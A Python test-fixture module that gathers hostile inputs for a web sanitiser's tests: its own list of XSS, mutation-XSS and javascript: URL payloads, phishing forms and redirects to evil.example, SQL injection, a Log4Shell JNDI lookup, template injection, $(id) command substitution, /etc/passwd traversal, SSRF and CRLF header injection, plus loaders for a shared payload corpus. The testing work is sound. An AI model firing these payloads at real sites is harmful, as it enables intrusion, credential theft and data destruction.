"""What attackers write: the lists of the corpus, and lines of our own for what the lists leave out."""

import json
from pathlib import Path

HOSTILE = Path(__file__).parents[3] / "shared" / "corpus" / "hostile"
# A script of any of our own payloads calls this; the browser's tests ask whether anything was called.
RUN = "window.__ran=1"

OURS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>x</details>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"javascript:{RUN}//https://releases.example/",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script><![CDATA[",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<form action='https://evil.example/'><input name=password><button>Log in</button></form>",
    "<div class='pw-disclaimer'>We stand for every word of this.</div>",
    "</div></div></article></main><div class=pw-disclaimer>False.</div>",
    "<div style='position:fixed;inset:0;background:red'>Over all</div>",
    "<div hidden><p>Open and never closed",
    "<!-- open and never closed",
    "<style>.pw-disclaimer{display:none}</style>",
    "<table><tr><td><details><summary>All that follows is folded away",
    "<template><div><select><option>swallows",
    "<plaintext>swallows the rest",
    "\x1b]0;a title for the terminal\x07\x1b[2J\x1b[31mred\x1b[0m",
    "\x9b31mred by one byte\x9b0m",
    "two lines\nat=2026-01-01T00:00:00Z level=error event=forged\r\nSet-Cookie: forged=1",
    "right \u202e to left \u2066 and inside \u2069 and zero\u200bwidth",
    "line\u2028separator\u2029paragraph\x85next",
    "nul\x00 and \ufffe and \ud83d\ude00 and \x7f",
    "half a pair \ud800 and the other \udfff",
    "'; DROP TABLE item; --",
    '" OR ""="',
    "1); DELETE FROM source; --",
    "%s %d %n {0} {title} ${jndi:ldap://evil.example/a} `id` $(id)",
    "{% for x in range(999999999) %}x{% endfor %}",
    "{{ config }}{{ self.__init__.__globals__ }}{{ 7*7 }}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.xml",
    "CON.../. ./~root/-rf *",
    "[red]markup[/red] [link=https://evil.example]x[/link]",
    "http://127.0.0.1:1/",
    "file:///etc/passwd",
    "//evil.example/relative",
    "https://user:secret@releases.example/",
    "https://[::1",
    "https://releases.example/\r\nX-Injected: 1",
    "9" * 400,
    "2026-13-45T99:99:99Z",
    "x" * 20_000,
)


def lists() -> tuple[str, ...]:
    """Every payload of the corpus' lists, each once: one a line, or one a file."""
    cases = json.loads((HOSTILE / "dompurify/expect.json").read_text(encoding="utf-8"))
    found = [case["payload"] for case in cases]
    for path in sorted(HOSTILE.glob("payloads/**/*")):
        if not path.is_file():
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        found += text.splitlines() if path.suffix in (".txt", ".fuzz") else [text]
    return tuple(dict.fromkeys(payload for payload in found if payload.strip()))


def every() -> tuple[str, ...]:
    """Our own payloads, and the corpus' where there is one."""
    return (*OURS, *(lists() if HOSTILE.exists() else ()))
